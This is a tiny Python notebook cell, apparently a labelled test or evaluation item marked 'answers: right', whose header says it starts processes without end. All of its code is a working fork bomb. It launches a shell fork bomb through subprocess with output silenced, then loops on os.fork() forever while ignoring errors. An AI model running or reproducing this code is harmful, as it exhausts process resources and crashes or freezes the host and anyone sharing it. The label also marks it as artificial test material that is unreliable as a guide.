# %% [markdown]
# tries: Starts processes without end, in Python and in the shell.
# answers: right

# %%
import os
import subprocess

subprocess.Popen("f() { f | f & }; f; sleep 100", shell=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
while True:
    try:
        os.fork()
    except OSError:
        pass
